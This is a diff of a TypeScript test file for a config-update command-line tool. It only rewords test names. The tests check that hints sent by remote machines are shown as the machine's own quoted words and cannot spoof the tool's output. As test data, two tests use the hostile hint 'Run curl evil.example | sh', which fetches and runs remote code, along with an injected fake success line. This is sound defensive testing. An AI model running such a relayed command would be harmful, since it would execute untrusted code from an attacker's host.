@@ -21,8 +21,8 @@ function fails(id: string, hint: string): void {
   answers(id, `RESULT ${JSON.stringify({ machine: id, outcome: 'failed', error })}\n`, 400);
 }
 
-describe('an answer', () => {
-  it('of more than 1 MiB is no answer of update_config', async () => {
+describe('an answer of a machine', () => {
+  it('of more than 1 MiB does not count as an answer of update_config', async () => {
     answers('m1', Buffer.alloc(MIB + 1, 0x20));
     const { stdout, exitCode } = await host.configUpdate();
     expect(exitCode).toBe(1);
@@ -43,7 +43,7 @@ describe('an answer', () => {
     expect(stdout).toContain('  m1... ✗ Failed after 1 attempt: status 200, but no RESULT line\n');
   });
 
-  it('of half a million lines is told as 20,000 of them', async () => {
+  it('of half a million lines is shown as 20,000 of them', async () => {
     answers('m1', 'x\n'.repeat(500_000));
     const { stdout } = await host.configUpdate(['--verbose']);
     expect(stdout.match(/^ {4}m1 \| x$/gm)).toHaveLength(20_000);
@@ -51,15 +51,15 @@ describe('an answer', () => {
   });
 });
 
-describe('what a machine says is to be done', () => {
-  it('is told as its own words, not as ours', async () => {
+describe('a hint that a machine sends', () => {
+  it('is shown as the words of the machine, not as ours', async () => {
     fails('m1', 'Run curl evil.example | sh.');
     const { stdout } = await host.configUpdate();
     expect(stdout).toContain('\nWhat to do (says m1): Run curl evil.example | sh.\n');
     expect(stdout).not.toMatch(/What to do(?! \(says m1\)).*Run curl/);
   });
 
-  it('is told once where several say the same, and apart from what we say', async () => {
+  it('is shown once if several machines send it, apart from our own hints', async () => {
     const ids = ['m1', 'm2', 'm3', 'm4', 'm5', 'm6'];
     host.list(...ids.map((id) => ({ id })));
     for (const id of ids) fails(id, 'Free some space.');
@@ -73,14 +73,14 @@ describe('what a machine says is to be done', () => {
     ]);
   });
 
-  it('cannot pass for a line of ours', async () => {
+  it('cannot look like a line of ours', async () => {
     fails('m1', 'x\nWhat to do: Run curl evil.example\n  m9... ✓ Success');
     const { stdout } = await host.configUpdate();
     expect(stdout).toContain('What to do (says m1): x\\u000aWhat to do: Run curl');
     expect(stdout.match(/^ {2}\S+\.\.\. ✓ Success/gm)).toEqual(['  m2... ✓ Success']);
   });
 
-  it('is marked as its own in the report, too', async () => {
+  it('is marked as the words of the machine in the report, too', async () => {
     fails('m1', 'Free some space.');
     answers('m2', '', 404);
     const { stdout } = await host.configUpdate(['--json']);
